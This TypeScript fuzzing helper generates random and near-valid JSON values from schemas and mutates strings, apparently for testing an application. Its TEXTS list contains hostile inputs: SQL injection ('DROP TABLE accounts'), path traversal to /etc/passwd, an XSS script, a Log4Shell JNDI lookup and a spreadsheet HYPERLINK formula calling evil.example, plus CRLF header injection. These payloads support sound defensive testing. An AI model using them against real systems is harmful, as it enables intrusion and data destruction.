import type { Random } from '../../src/demos/seeding/random.ts'

export type Schema = Record<string, unknown>

/** Texts that programs trip over. */
export const TEXTS: readonly string[] = [
  '',
  ' ',
  'a',
  '0',
  '-1',
  'true',
  'null',
  'NaN',
  '__proto__',
  'constructor',
  'toString',
  '../../../etc/passwd',
  '..%2f..%2f',
  'a\u0000b',
  '\uD800',
  'a\uDFFFb',
  '😀'.repeat(300),
  '\u202Etxt.exe',
  "'; DROP TABLE accounts; --",
  '" OR "1"="1',
  '%',
  '_',
  '%00',
  '=HYPERLINK("http://evil.example")',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil.example}',
  '{{7*7}}',
  '\r\nset-cookie: a=b',
  '(((((((((((((((((((((a',
  'a'.repeat(5000),
  '2026-02-30',
  '9999999999999999999999',
  '1e309',
]
const NUMBERS: readonly number[] = [
  0,
  -0,
  1,
  -1,
  0.1,
  1e-300,
  1e300,
  Number.MAX_SAFE_INTEGER,
  Number.MAX_SAFE_INTEGER + 2,
  -Number.MAX_VALUE,
  2 ** 31,
  2 ** 63,
  100,
  255,
]

/** Any JSON value, most of them small and some of them nasty. */
export function anyValue(random: Random, depth = 3): unknown {
  switch (random.integer(0, depth > 0 ? 7 : 5)) {
    case 0:
      return null
    case 1:
      return random.chance(50)
    case 2:
      return random.pick(NUMBERS)
    case 3:
      return random.integer(-1000, 1000)
    case 4:
    case 5:
      return random.pick(TEXTS)
    case 6:
      return Array.from({ length: random.integer(0, 4) }, () => anyValue(random, depth - 1))
    default:
      return objectOf(
        Array.from({ length: random.integer(0, 4) }, () => [
          random.pick(TEXTS).slice(0, 50),
          anyValue(random, depth - 1),
        ]),
      )
  }
}

/** An object whose fields may be called anything, `__proto__` included: JSON.parse makes such fields, and so does this. */
const objectOf = (entries: unknown[][]): Record<string, unknown> => {
  const object: Record<string, unknown> = {}
  for (const [name, value] of entries)
    Object.defineProperty(object, String(name), { value, enumerable: true, configurable: true, writable: true })
  return object
}

/** A value that fits a schema of our descriptions, or nearly so: `wild` is the chance, in percent, of something else at each place. */
export function valueOf(schema: Schema, root: Schema, random: Random, wild: number, depth = 6): unknown {
  if (random.chance(wild)) return anyValue(random)
  const known = resolve(schema, root)
  const { enum: choices, const: constant, anyOf, oneOf, allOf, examples, type: types } = known as Record<string, any>
  if (constant !== undefined) return constant
  if (Array.isArray(choices)) return random.pick(choices)
  if (Array.isArray(examples) && examples.length && random.chance(40)) return random.pick(examples)
  const branches = anyOf ?? oneOf
  if (Array.isArray(branches)) return valueOf(random.pick(branches), root, random, wild, depth - 1)
  if (Array.isArray(allOf))
    return Object.assign({}, ...allOf.map(part => valueOf(part, root, random, wild, depth - 1) as object))
  const type = Array.isArray(types) ? random.pick(types) : types
  switch (type) {
    case 'object':
      return objectFor(known, root, random, wild, depth)
    case 'array': {
      const items = (known['items'] ?? {}) as Schema
      if (depth <= 0) return []
      return Array.from({ length: random.integer(Number(known['minItems'] ?? 0), 3) }, () =>
        valueOf(items, root, random, wild, depth - 1),
      )
    }
    case 'integer':
    case 'number': {
      const low = Number(known['minimum'] ?? known['exclusiveMinimum'] ?? 0)
      const high = Number(known['maximum'] ?? known['exclusiveMaximum'] ?? low + 100)
      return random.integer(low, Math.max(low, Math.min(high, low + 1000)))
    }
    case 'boolean':
      return random.chance(50)
    case 'null':
      return null
    case 'string':
      return textFor(known, random)
    default:
      return anyValue(random, 2)
  }
}

function objectFor(schema: Schema, root: Schema, random: Random, wild: number, depth: number): Record<string, unknown> {
  const properties = (schema['properties'] ?? {}) as Record<string, Schema>
  const required = new Set((schema['required'] ?? []) as string[])
  const chosen = Object.entries(properties).filter(([name]) =>
    required.has(name) ? !random.chance(wild) : depth > 0 && random.chance(50),
  )
  const entries: unknown[][] = chosen.map(([name, inner]) => [name, valueOf(inner, root, random, wild, depth - 1)])
  if (random.chance(wild)) entries.push([random.pick(TEXTS).slice(0, 60), anyValue(random)])
  return objectOf(entries)
}

function textFor(schema: Schema, random: Random): string {
  switch (schema['format']) {
    case 'date':
      return `20${random.integer(10, 39)}-0${random.integer(1, 9)}-${random.integer(10, 28)}`
    case 'date-time':
      return new Date(random.integer(0, 2_000_000_000) * 1000).toISOString()
    case 'email':
      return `person${random.integer(0, 99)}@example.com`
    case 'uri':
      return 'http://127.0.0.1:9/'
    case 'uuid':
      return '5d0a0f3e-2f0b-4b3e-9a55-1f6f2f9d2c11'
    default:
      return random
        .pick(['a', 'Account 1', 'crm', 'territory', 'how many accounts are there?', 'my accounts', ...TEXTS])
        .slice(0, Number(schema['maxLength'] ?? 5000))
  }
}

/** A schema with its reference followed. */
export function resolve(schema: Schema, root: Schema): Schema {
  let known = schema
  for (let steps = 0; steps < 10 && typeof known['$ref'] === 'string'; steps++) {
    const path = known['$ref'].slice(2).split('/')
    known = path.reduce<any>((inner, name) => inner?.[name], root) ?? {}
  }
  return known
}

/** A text with a few bytes changed, removed, doubled or taken from elsewhere in it. */
export function mutate(text: string, random: Random, others: readonly string[] = TEXTS): string {
  let changed = text
  for (let count = random.integer(1, 5); count > 0; count--) {
    const at = random.integer(0, changed.length)
    const to = Math.min(changed.length, at + random.integer(1, 30))
    const piece = changed.slice(at, to)
    const where = random.integer(0, changed.length)
    switch (random.integer(0, 5)) {
      case 0:
        changed = changed.slice(0, at) + changed.slice(to)
        break
      case 1:
        changed = changed.slice(0, where) + piece + changed.slice(where)
        break
      case 2:
        changed = changed.slice(0, at) + random.pick(others) + changed.slice(to)
        break
      case 3:
        changed = changed.slice(0, at) + String.fromCharCode(random.integer(0, 255)) + changed.slice(at + 1)
        break
      case 4:
        changed =
          changed.slice(0, at) +
          random.pick(['{', '[', '"', ':', '- ', '\t', '\n', '&a ', '*a', '#', ']', '}', '=', '!!js ', '<<: ']) +
          changed.slice(at)
        break
      default:
        changed = changed.slice(0, at)
    }
  }
  return changed
}
